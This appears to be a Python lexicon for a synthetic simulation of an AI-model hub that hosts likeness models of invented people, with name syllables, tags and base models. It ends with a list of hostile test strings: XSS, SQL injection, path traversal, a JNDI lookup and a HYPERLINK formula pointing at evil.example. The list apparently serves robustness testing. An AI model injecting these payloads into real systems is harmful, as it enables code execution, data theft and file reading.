"""Lexicons of the synthetic world: name parts, tags, styles, base models and hostile strings.

Every person name is assembled from syllables at random: targets are invented, never real people.
"""

from __future__ import annotations

# --- countries of likeness targets -------------------------------------------------------------
# (ISO code, weight, name style, nationality adjective). Weights concentrate targets in
# CN/KR/JP/US/GB as the FAccT 2025 study found.
COUNTRIES: tuple[tuple[str, float, str, str], ...] = (
    ("CN", 0.22, "cn", "Chinese"),
    ("KR", 0.21, "kr", "Korean"),
    ("JP", 0.17, "jp", "Japanese"),
    ("US", 0.14, "latin", "American"),
    ("GB", 0.10, "latin", "British"),
    ("TW", 0.025, "cn", "Taiwanese"),
    ("TH", 0.02, "sea", "Thai"),
    ("RU", 0.02, "slavic", "Russian"),
    ("BR", 0.015, "latin", "Brazilian"),
    ("FR", 0.015, "latin", "French"),
    ("DE", 0.015, "latin", "German"),
    ("UA", 0.01, "slavic", "Ukrainian"),
    ("IN", 0.01, "in", "Indian"),
    ("ES", 0.01, "latin", "Spanish"),
    ("IT", 0.01, "latin", "Italian"),
    ("VN", 0.01, "sea", "Vietnamese"),
    ("PH", 0.01, "sea", "Filipino"),
)
SHARE_WOMEN = 0.96
PROMINENCE: tuple[tuple[str, float], ...] = (("celebrity", 0.58), ("influencer", 0.30), ("private", 0.12))

# --- syllables, with native script where the hub users write it -------------------------------
CN_FAMILY = {
    "Qiao": "乔",
    "Lan": "蓝",
    "Mu": "穆",
    "Su": "苏",
    "Bai": "白",
    "Xia": "夏",
    "Ye": "叶",
    "Jiang": "江",
    "Shen": "沈",
    "Gu": "顾",
    "Tang": "唐",
    "Yan": "颜",
    "Lu": "陆",
    "Qin": "秦",
    "Ruan": "阮",
    "Fang": "方",
    "Cen": "岑",
    "Lian": "连",
    "Ning": "宁",
    "Wei": "韦",
    "Luo": "骆",
    "Jin": "靳",
    "Hua": "华",
    "Tao": "陶",
}
CN_GIVEN_F = {
    "xue": "雪",
    "lin": "琳",
    "yue": "玥",
    "qing": "晴",
    "yao": "瑶",
    "mei": "梅",
    "xin": "欣",
    "ran": "然",
    "shan": "珊",
    "wen": "雯",
    "yu": "雨",
    "jia": "佳",
    "hui": "慧",
    "zhi": "芷",
    "xi": "溪",
    "lan": "岚",
    "rou": "柔",
    "tong": "彤",
    "yi": "怡",
    "man": "曼",
    "qian": "倩",
    "ying": "莹",
    "lu": "露",
    "fei": "菲",
}
CN_GIVEN_M = {
    "hao": "浩",
    "jun": "俊",
    "tao": "涛",
    "feng": "峰",
    "kai": "凯",
    "lei": "磊",
    "chen": "晨",
    "yang": "阳",
    "zhe": "哲",
    "rui": "睿",
    "bo": "博",
    "heng": "恒",
}
KR_FAMILY = {
    "Kim": "김",
    "Lee": "이",
    "Park": "박",
    "Choi": "최",
    "Jung": "정",
    "Kang": "강",
    "Yoon": "윤",
    "Han": "한",
    "Seo": "서",
    "Shin": "신",
    "Kwon": "권",
    "Hwang": "황",
    "Ahn": "안",
    "Song": "송",
    "Jeon": "전",
    "Hong": "홍",
    "Moon": "문",
    "Yang": "양",
    "Bae": "배",
    "Baek": "백",
}
KR_GIVEN_F = {
    "Seo": "서",
    "Yun": "윤",
    "Ji": "지",
    "Min": "민",
    "Ha": "하",
    "Eun": "은",
    "Soo": "수",
    "Yeon": "연",
    "Hye": "혜",
    "Na": "나",
    "Ri": "리",
    "Ah": "아",
    "Rin": "린",
    "Hee": "희",
    "Da": "다",
    "Chae": "채",
    "Won": "원",
    "Young": "영",
    "Bom": "봄",
    "Sol": "솔",
}
KR_GIVEN_M = {
    "Joon": "준",
    "Hyun": "현",
    "Woo": "우",
    "Tae": "태",
    "Seung": "승",
    "Ho": "호",
    "Gun": "건",
    "Jae": "재",
}
JP_FAMILY_HEAD = {
    "Aki": "秋",
    "Kuro": "黒",
    "Shira": "白",
    "Mizu": "水",
    "Taka": "高",
    "Naga": "長",
    "Fuji": "藤",
    "Hoshi": "星",
    "Kiri": "霧",
    "Asa": "朝",
    "Tsuki": "月",
    "Yuki": "雪",
    "Hana": "花",
    "Mori": "森",
    "Sora": "空",
    "Umi": "海",
}
JP_FAMILY_TAIL = {
    "moto": "本",
    "kawa": "川",
    "no": "野",
    "zawa": "沢",
    "hara": "原",
    "mura": "村",
    "shima": "島",
    "yama": "山",
    "saki": "崎",
    "ta": "田",
    "oka": "岡",
    "tani": "谷",
}
JP_GIVEN_F = {
    "Haru": "春",
    "Mio": "澪",
    "Rin": "凛",
    "Yuna": "優奈",
    "Saki": "咲",
    "Aya": "彩",
    "Nana": "菜々",
    "Hina": "陽菜",
    "Ema": "絵麻",
    "Kana": "佳奈",
    "Mei": "芽衣",
    "Riko": "莉子",
    "Sayo": "紗代",
    "Noa": "乃愛",
    "Tsumugi": "紬",
    "Koharu": "小春",
    "Akari": "灯",
    "Shiori": "栞",
}
JP_GIVEN_M = {"Ren": "蓮", "Sota": "蒼太", "Haruto": "陽翔", "Kaito": "海斗", "Yuma": "悠真", "Riku": "陸"}
LATIN_GIVEN_F = (
    "Maren",
    "Elowen",
    "Tessa",
    "Brielle",
    "Callie",
    "Noor",
    "Juniper",
    "Sloane",
    "Aveline",
    "Rory",
    "Delphine",
    "Kenna",
    "Liora",
    "Marisol",
    "Wren",
    "Isla",
    "Paloma",
    "Saoirse",
    "Odette",
    "Viviane",
    "Linnea",
    "Carys",
    "Anouk",
    "Mireille",
    "Giada",
    "Lucila",
    "Thalia",
    "Imogen",
)
LATIN_GIVEN_M = ("Rowan", "Callum", "Dashiell", "Emrys", "Jasper", "Tobias", "Lucien", "Matteo")
LATIN_SURNAME_HEAD = (
    "Ash",
    "Brack",
    "Cal",
    "Dun",
    "Fen",
    "Gal",
    "Hart",
    "Kel",
    "Mar",
    "Pen",
    "Rad",
    "Sel",
    "Thorn",
    "Wick",
    "Lind",
    "Mor",
    "Stan",
    "Quill",
    "Vey",
    "Orm",
)
LATIN_SURNAME_TAIL = (
    "ford",
    "wick",
    "more",
    "bury",
    "ley",
    "ton",
    "well",
    "cott",
    "den",
    "hollow",
    "mere",
    "stead",
    "ridge",
    "hart",
    "vane",
    "lowe",
)
SLAVIC_GIVEN_F = ("Alyona", "Milena", "Zlata", "Yeva", "Darina", "Vasilisa", "Oksana", "Lada")
SLAVIC_GIVEN_M = ("Bogdan", "Yaroslav", "Miron")
SLAVIC_SURNAME_HEAD = ("Belo", "Zvyag", "Kras", "Vetl", "Sobol", "Lipat", "Gorde", "Rusal")
SEA_GIVEN_F = ("Ploy", "Kanya", "Mai", "Fah", "Nam", "Linh", "Thuy", "Anh", "Ligaya", "Mayumi", "Dalisay")
SEA_GIVEN_M = ("Krit", "Minh", "Bayani")
SEA_SURNAME = (
    "Srisuk",
    "Wongsaket",
    "Chaiyaporn",
    "Rattanakul",
    "Nguyen-Tran",
    "Le Bao",
    "Dimaculang",
    "Salazarte",
)
IN_GIVEN_F = ("Aanya", "Ishita", "Meher", "Tara", "Rhea", "Kavya", "Nandini")
IN_GIVEN_M = ("Vihaan", "Arjun", "Kabir")
IN_SURNAME = ("Varmaraj", "Kothandar", "Deshpura", "Malhotri", "Sundaresh", "Iyengal")

# --- occupations, by prominence --------------------------------------------------------------
OCCUPATIONS = {
    "celebrity": ("actress", "singer", "idol", "model", "tv host", "athlete", "news anchor"),
    "influencer": ("instagram model", "tiktoker", "streamer", "cosplayer", "youtuber", "fitness influencer"),
    "private": ("instagram user", "amateur model", "girl next door"),
}
OCCUPATIONS_M = {
    "celebrity": ("actor", "singer", "idol", "athlete"),
    "influencer": ("streamer", "youtuber", "fitness influencer"),
    "private": ("instagram user",),
}

# --- tags ----------------------------------------------------------------------------------------
PROMINENCE_TAGS = {
    "celebrity": ("celebrity", "actress", "famous"),
    "influencer": ("influencer", "instagram", "tiktok"),
    "private": ("instagram", "amateur"),
}
COUNTRY_TAGS = {
    "CN": ("chinese", "asian", "cpop"),
    "KR": ("korean", "kpop", "asian"),
    "JP": ("japanese", "jav", "asian"),
    "US": ("american",),
    "GB": ("british",),
    "TW": ("taiwanese", "asian"),
    "TH": ("thai", "asian"),
    "RU": ("russian",),
    "UA": ("ukrainian",),
    "IN": ("indian",),
    "VN": ("vietnamese", "asian"),
    "PH": ("filipina", "asian"),
    "BR": ("brazilian",),
    "FR": ("french",),
    "DE": ("german",),
    "ES": ("spanish",),
    "IT": ("italian",),
}
SEXUAL_TAGS = ("nsfw", "sexy", "nude", "lingerie", "porn", "topless", "explicit", "bikini")
SFW_TAGS = ("portrait", "photography", "beautiful", "fashion")

# Shares of the non-likeness categories among new models.
OTHER_CATEGORY_WEIGHTS: tuple[tuple[str, float], ...] = (
    ("character", 0.30),
    ("style", 0.22),
    ("concept", 0.16),
    ("clothing", 0.10),
    ("pose", 0.05),
    ("generic_person", 0.10),
    ("cosplay", 0.07),
)
FRANCHISES = (
    "Starfall Academy",
    "Crimson Lotus Chronicles",
    "Neon Ronin",
    "Moonlit Alchemist",
    "Azure Frontier",
    "Ember Knights",
    "Petal Storm",
    "Iron Sakura",
    "Galaxy Idol Project",
    "Shadow Bloom Saga",
    "Tidebound",
    "Clockwork Shrine",
    "Violet Circuit",
    "Hollow Crown Online",
)
FANTASY_NAMES = (
    "Lyra",
    "Seraphine",
    "Kirin",
    "Vaelis",
    "Nyx",
    "Astra",
    "Mireth",
    "Celes",
    "Rhoswen",
    "Ilsa",
    "Kaede",
    "Tamsin",
)
CHARACTER_TAGS = ("anime", "character", "game character", "cartoon", "girl", "waifu", "1girl", "fanart")
STYLES = (
    "Watercolor",
    "Ink Wash",
    "Cyberpunk Neon",
    "Retro 80s Anime",
    "Oil Painting",
    "Pixel Art",
    "Woodblock Print",
    "Vaporwave",
    "Cinematic Film",
    "Dark Fantasy",
    "Pastel Dream",
    "Comic Book",
    "Low Poly",
    "Claymation",
    "Stained Glass",
    "Graphite Sketch",
    "Golden Hour Photo",
    "Analog Film",
)
STYLE_TAGS = ("style", "art style", "anime", "illustration", "photography", "painting", "artstyle")
CONCEPTS = (
    "Glowing Eyes",
    "Underwater",
    "Double Exposure",
    "Detail Tweaker",
    "Add More Details",
    "Hands Fix",
    "Bokeh",
    "Lightning Magic",
    "Floating Islands",
    "Crystal Skin",
    "Melting",
    "Tiny World",
    "Paper Cutout",
    "Fire Hair",
)
CONCEPT_TAGS = ("concept", "tool", "detail", "slider", "effect", "background")
CLOTHING = (
    "Victorian Dress",
    "Techwear Jacket",
    "Hanfu",
    "Kimono",
    "School Uniform",
    "Bikini",
    "Latex Suit",
    "Wedding Dress",
    "Oversized Hoodie",
    "Chainmail Armor",
    "Qipao",
    "Maid Outfit",
    "Hanbok",
)
CLOTHING_TAGS = ("clothing", "outfit", "dress", "fashion", "costume")
POSES = (
    "Sitting on Chair",
    "Looking Back",
    "Dynamic Action",
    "Peace Sign",
    "Hands on Hips",
    "Lying on Bed",
    "Over the Shoulder",
    "Jumping",
)
POSE_TAGS = ("poses", "pose", "openpose", "composition")
GENERIC_PERSON = (
    "Beautiful Asian Woman",
    "Perfect Korean Girl",
    "Realistic Instagram Girl",
    "Cute Japanese Face",
    "Euro Beauty",
    "Photoreal Woman Portrait",
    "Instagirl Style",
    "Chinese Doll Face",
    "K-Beauty Mix",
    "Girlfriend Look",
    "Asian Beauty Helper",
    "Nordic Woman",
)
GENERIC_PERSON_TAGS = (
    "woman",
    "photorealistic",
    "beautiful",
    "asian",
    "girl",
    "realistic",
    "portrait",
    "sexy",
)
COSPLAY_TAGS = ("cosplay", "character", "realistic", "costume", "photorealistic")
CHECKPOINT_WORDS = (
    "Dream",
    "Real",
    "Anime",
    "Photo",
    "Fantasy",
    "Mystic",
    "Velvet",
    "Lucid",
    "Astral",
    "Neo",
)
CHECKPOINT_SUFFIX = ("Mix", "Merge", "Diffusion", "Vision", "XL", "Fusion", "Blend")

# --- model types -----------------------------------------------------------------------------------
LIKENESS_TYPES: tuple[tuple[str, float], ...] = (
    ("LORA", 0.76),
    ("LoCon", 0.08),
    ("DoRA", 0.04),
    ("Checkpoint", 0.06),
    ("TextualInversion", 0.06),
)
OTHER_TYPES: tuple[tuple[str, float], ...] = (
    ("LORA", 0.58),
    ("LoCon", 0.08),
    ("DoRA", 0.02),
    ("Checkpoint", 0.18),
    ("TextualInversion", 0.08),
    ("VAE", 0.015),
    ("Controlnet", 0.015),
    ("Upscaler", 0.01),
    ("Workflows", 0.02),
)

# --- base models: Civitai name -> (introduced, ramp days, peak weight, yearly decay after peak,
#     HF base repo, HF family tag, HF pipeline tag) ----------------------------------------------------
BASE_MODELS: dict[str, tuple[str, int, float, float, str, str, str]] = {
    "SD 1.5": (
        "2022-10-20",
        1,
        1.0,
        0.55,
        "stable-diffusion-v1-5/stable-diffusion-v1-5",
        "stable-diffusion",
        "text-to-image",
    ),
    "SD 2.1": (
        "2022-12-07",
        30,
        0.12,
        0.9,
        "stabilityai/stable-diffusion-2-1",
        "stable-diffusion",
        "text-to-image",
    ),
    "SDXL 1.0": (
        "2023-07-26",
        90,
        0.9,
        0.35,
        "stabilityai/stable-diffusion-xl-base-1.0",
        "stable-diffusion-xl",
        "text-to-image",
    ),
    "Pony": (
        "2024-01-05",
        60,
        0.8,
        0.4,
        "stablediffusionapi/pony-diffusion-v6-xl",
        "stable-diffusion-xl",
        "text-to-image",
    ),
    "Flux.1 D": ("2024-08-01", 60, 1.1, 0.15, "black-forest-labs/FLUX.1-dev", "flux", "text-to-image"),
    "Flux.1 S": ("2024-08-01", 30, 0.1, 0.5, "black-forest-labs/FLUX.1-schnell", "flux", "text-to-image"),
    "Illustrious": (
        "2024-10-01",
        90,
        0.9,
        0.1,
        "OnomaAIResearch/Illustrious-xl-early-release-v0",
        "stable-diffusion-xl",
        "text-to-image",
    ),
    "NoobAI": ("2024-11-15", 60, 0.3, 0.3, "Laxhar/noobai-XL-1.1", "stable-diffusion-xl", "text-to-image"),
    "SD 3.5": ("2024-10-22", 30, 0.08, 0.6, "stabilityai/stable-diffusion-3.5-large", "sd3", "text-to-image"),
    "Wan Video": ("2025-03-01", 90, 0.25, 0.1, "Wan-AI/Wan2.1-T2V-14B", "wan", "text-to-video"),
    "Qwen": ("2025-08-10", 90, 0.35, 0.0, "Qwen/Qwen-Image", "qwen-image", "text-to-image"),
}
BASE_SHORT = {
    "SD 1.5": "SD1.5",
    "SD 2.1": "SD2",
    "SDXL 1.0": "SDXL",
    "Pony": "Pony",
    "Flux.1 D": "Flux",
    "Flux.1 S": "Flux-S",
    "Illustrious": "IL",
    "NoobAI": "Noob",
    "SD 3.5": "SD3.5",
    "Wan Video": "Wan",
    "Qwen": "Qwen",
}
HF_LICENSES = ("other", "creativeml-openrail-m", "openrail++", "apache-2.0", "mit", "cc-by-nc-4.0")

# --- accounts --------------------------------------------------------------------------------------
HANDLE_HEAD = (
    "pixel",
    "neon",
    "lora",
    "dream",
    "waifu",
    "real",
    "anon",
    "velvet",
    "latent",
    "prompt",
    "tensor",
    "mochi",
    "kitsune",
    "nova",
    "ghost",
    "lumen",
    "sakura",
    "retro",
    "byte",
    "moon",
)
HANDLE_TAIL = (
    "smith",
    "craft",
    "maker",
    "works",
    "lab",
    "forge",
    "master",
    "hub",
    "studio",
    "fox",
    "cat",
    "bot",
)
# Bulk re-upload accounts that appeared on Hugging Face after the Civitai ban.
ARCHIVE_ACCOUNTS = (
    "civarchive-mirror",
    "lora-lifeboat",
    "refugee-loras",
    "backup-models-2025",
    "safe-haven-ai",
    "model-preserve",
    "lost-loras-archive",
)

# --- hostile but realistic strings -----------------------------------------------------------------
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!channel>",
    "<!here> check this",
    "<@U123ABC>",
    "../../etc/passwd",
    "'\"; DROP TABLE models;--",
    '=HYPERLINK("http://evil.example","x")',
    "${jndi:ldap://evil.example/a}",
    "[click](javascript:alert(1))",
    "🔥💋✨",
    "真人写真 明星 模型",
    "\u202eevil\u202c",
    "zero\u200bwidth",
    "*bold* _it_ `code` ~strike~",
)
LONG_FILLER = "very long name " * 40
